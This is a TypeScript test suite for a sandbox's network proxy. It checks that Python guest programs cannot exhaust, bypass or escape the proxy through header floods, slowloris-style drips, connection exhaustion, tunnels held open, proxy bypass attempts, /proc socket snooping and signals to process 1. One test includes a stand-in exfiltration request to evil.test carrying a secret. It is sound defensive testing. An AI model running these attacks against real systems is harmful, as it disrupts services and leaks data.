import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer, type Server, type Socket } from "node:net";
import { after, test } from "node:test";
import { systemIds } from "../../src/base/ids.ts";
import { proxyLimits } from "../../src/sandbox/network/proxy.ts";
import { cannotStart } from "../contracts/sandbox-guests.ts";
import { until } from "../world/events.ts";
import { endlessClock, manualClock } from "../world/manual-clock.ts";
import { attackerUid, attempt, conversation, limits, newFolder, openProvider } from "./guest.ts";
import { forbidden, mirror, openReaching, port, portOf, reaching, said } from "./reaching.ts";

// How much a program can do with the one way out that it has, and to whom.

const options = { skip: cannotStart };

test(
  "attack 191: a flood of headers and a request that never ends are stopped by size and time [X5][X4]",
  options,
  async () => {
    const flood = `say(status("GET http://${mirror}/ HTTP/1.1\\r\\n" + "A: " + "b" * 40000))`;
    assert.equal(await said(flood), "431 Request Header Fields Too Large");
    const drip = `
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://${mirror}/ HTTP/1.1\\r\\n")
s.settimeout(0.02)
answer = b""
began = time.monotonic()
while not answer and time.monotonic() - began < 30:
    try:
        s.sendall(b"A: b\\r\\n")
        answer = s.recv(65536)
    except TimeoutError:
        pass
say(answer.decode().split(":")[0])
`;
    const clock = manualClock();
    const slow = await openReaching({ clock });
    const dripped = said(drip, slow);
    await until("it is refused", () => {
      clock.move(proxyLimits.headMsMax / 20);
      return slow.logged.length > 0;
    });
    assert.equal(await dripped, "HTTP/1.1 408 Request Timeout");
  },
);

test(
  "attack 192: too many connections at once wait, and those that say nothing make room in time [X5][X4]",
  options,
  async () => {
    const { connectionsMax, headMsMax } = proxyLimits;
    const clock = manualClock();
    const busy = await openReaching({ clock });
    const code = `
held = [socket.create_connection(("127.0.0.1", 3128), 30) for _ in range(${connectionsMax + 8})]
say(status(get("http://${mirror}/late")))
`;
    const late = said(code, busy);
    await until("no place is left", () => clock.timers() === connectionsMax);
    clock.move(headMsMax);
    await until("those who said nothing are told so", () => busy.logged.length === connectionsMax);
    clock.move(headMsMax);
    assert.equal(await late, "200 OK");
  },
);

test(
  "attack 193: a connection that nobody reads does not hold up others, nor fill the memory of the host [X5][X4]",
  options,
  async () => {
    const unread = await openReaching();
    const code = `
held = []
for _ in range(8):
    s = socket.create_connection(("127.0.0.1", 3128), 30)
    s.sendall(get("http://${mirror}/endless").encode())
    s.recv(10)
    held.append(s)
say([status(get("http://${mirror}/beside")) for _ in range(5)])
`;
    const before = process.memoryUsage().arrayBuffers;
    assert.deepEqual(await said(code, unread), new Array(5).fill("200 OK"));
    assert.ok(process.memoryUsage().arrayBuffers - before < 64 * 1024 * 1024);
  },
);

test(
  "attack 194: carrying off more than the limit is stopped by counting, also over many connections [X5][X4]",
  options,
  async () => {
    const limited = await openReaching({ limits: { connectionBytesMax: 100_000, ownerBytesMax: 150_000 } });
    const code = `
first, second = len(ask(get("http://${mirror}/endless"))), len(ask(get("http://${mirror}/endless")))
say([first < 300000, second < 300000, status(get("http://${mirror}/"))])
`;
    assert.deepEqual(await said(code, limited), [true, true, forbidden]);
  },
);

test(
  "attack 202: carrying off more than the limit by ever new sandboxes is stopped by counting what a user's sandboxes move together [X5][X4]",
  options,
  async () => {
    const first = await openReaching({ limits: { ownerBytesMax: 100_000 } });
    const second = await first.beside();
    assert.equal(await said(`say(len(ask(get("http://${mirror}/endless"))) < 300000)`, first), true);
    await first.guest.close("left");
    const third = await first.beside();
    const answers = [second, third].map((guest) => said(`say(status(get("http://${mirror}/")))`, guest));
    assert.deepEqual(await Promise.all(answers), [forbidden, forbidden]);
  },
);

test(
  "attack 195: a tunnel that is kept open without use, or for ever, is stopped by time [X5][X4]",
  options,
  async () => {
    const server: Server = createServer((socket) => socket.on("error", () => {}).on("data", () => socket.write("x")));
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    after(() => server.close());
    const place = `mirror.test:${portOf(server)}`;
    const rules = { hosts: [place], privateHosts: [place] };
    const clock = manualClock();
    const idle = await openReaching({ ...rules, clock, limits: { idleMsMax: 300 } });
    const long = await openReaching({ ...rules, clock, limits: { connectionMsMax: 600 } });
    const code = `
s = socket.create_connection(("127.0.0.1", 3128), 30)
s.sendall(tunnel("${place}").encode())
s.recv(1000)
try:
    while True:
        s.sendall(b"x") if IS_BUSY else None
        if not s.recv(10):
            break
    say("closed")
except ConnectionError:
    say("closed")
`;
    for (const [isBusy, attacked, why] of [
      ["False", idle, "idle"],
      ["True", long, "time"],
    ] as const) {
      const connected = once(server, "connection");
      const ended = said(`IS_BUSY = ${isBusy}\n${code}`, attacked);
      await connected;
      await until("it is cut", () => {
        clock.move(100);
        return attacked.logged.length > 0;
      });
      assert.equal(await ended, "closed");
      assert.match(attacked.logged.join(), new RegExp(`^a connection of a program was cut .*"why":"${why}"\\}$`));
    }
  },
);

test("a tunnel in which something is said before each limit of silence stays open [X5]", options, async () => {
  const clock = manualClock();
  const server: Server = createServer((socket) =>
    socket
      .on("error", () => {})
      .on("data", () => {
        clock.move(200);
        socket.write("x");
      }),
  );
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  after(() => server.close());
  const place = `mirror.test:${portOf(server)}`;
  const talking = await openReaching({ hosts: [place], privateHosts: [place], limits: { idleMsMax: 300 }, clock });
  const code = `
s = socket.create_connection(("127.0.0.1", 3128), 30)
s.sendall(tunnel("${place}").encode())
s.recv(1000)
heard = 0
for _ in range(10):
    s.sendall(b"x")
    heard += len(s.recv(1))
say(heard)
`;
  assert.equal(await said(code, talking), 10);
  assert.deepEqual(talking.logged, []);
});

test(
  "a program that hangs up while its host is looked up leaves no connection open there [X5][X4]",
  options,
  async () => {
    const came: Socket[] = [];
    const server: Server = createServer((socket) => came.push(socket.on("error", () => {}).resume()));
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    after(() => {
      server.close();
      for (const socket of came) socket.resetAndDestroy();
    });
    const place = `slow.test:${portOf(server)}`;
    const hosts = [mirror, place];
    const found = Promise.withResolvers<readonly string[]>();
    const lookup = async (host: string) => (host === "slow.test" ? found.promise : ["127.0.0.1"]);
    const leaving = await openReaching({ hosts, privateHosts: hosts, lookup, clock: endlessClock });
    // What a program says on one connection is heard before what it says later on another.
    const code = `
s = socket.create_connection(("127.0.0.1", 3128), 30)
s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
s.sendall(tunnel("${place}").encode())
before = status(get("http://${mirror}/before"))
s.close()
say([before, status(get("http://${mirror}/after"))])
`;
    assert.deepEqual(await said(code, leaving), ["200 OK", "200 OK"]);
    found.resolve(["127.0.0.1"]);
    await until("the host was connected to", () => came.length === 1);
    await until("that connection is closed", () => came[0]?.destroyed === true);
  },
);

test(
  "attack 196: using the way out of another conversation is stopped by a network for each [X5][X3]",
  options,
  async () => {
    const without = await openProvider().open({
      ...{ id: systemIds.hex(16), workspace: conversation(newFolder()), limits, uid: attackerUid, env: {} },
    });
    assert.ok(without.ok);
    await reaching();
    const code = `say([error_of(socket.create_connection, ("127.0.0.1", 3128), 2), [name for name in os.environ if "proxy" in name.lower()]])`;
    assert.deepEqual(await attempt({ guest: without.value, folder: "" }, { code }), ["ECONNREFUSED", []]);
  },
);

test("attack 197: going around the proxy is stopped by a network that has nothing else [X5]", options, async () => {
  const code = `
def look():
    try:
        return socket.getaddrinfo("mirror.test", 80)
    except socket.gaierror:
        return "no answer"
say([look(), error_of(socket.create_connection, ("127.0.0.1", ${port}), 2), error_of(socket.create_connection, ("192.0.2.1", 80), 2), os.path.exists("/etc/resolv.conf") and text_of("/etc/resolv.conf") or "nobody"])
`;
  assert.deepEqual(await said(code), ["no answer", "ECONNREFUSED", "ENETUNREACH", "nobody"]);
});

test(
  "attack 198: taking the supervisor's socket to the proxy is stopped, for no program inherits it or looks in [X5]",
  options,
  async () => {
    const code = `
kinds = sorted(os.readlink(f"/proc/self/fd/{fd}").split(":")[0] for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{fd}"))
say([kinds.count("socket"), error_of(os.listdir, "/proc/1/fd"), error_of(lambda: socket.create_server(("127.0.0.1", 3128), reuse_port=True))])
`;
    // Its one socket is the link of its own Python.
    assert.deepEqual(await said(code), [1, "EACCES", "EADDRINUSE"]);
  },
);

test(
  "attack 199: ending the way out for all programs of a conversation is stopped by its being part of process 1 [X5]",
  options,
  async () => {
    const code = `
for number in range(1, 32):
    try:
        os.kill(1, number)
    except OSError:
        pass
for _ in range(300):
    s = socket.create_connection(("127.0.0.1", 3128), 30)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.sendall(b"CONNECT ${mirror} HTTP/1.1\\r\\n\\r\\n")
    s.close()
say(status(get("http://${mirror}/after")))
`;
    assert.equal(await said(code), "200 OK");
  },
);

test("attack 200: filling the log with refusals is stopped after some [X5][X4]", options, async () => {
  const noisy = await openReaching();
  assert.equal(
    await said(`say(len({status(get("http://evil.test/?secret=" + str(n))) for n in range(400)}))`, noisy),
    1,
  );
  assert.equal(noisy.logged.length, 200);
  assert.ok(!noisy.logged.join("").includes("secret"));
});
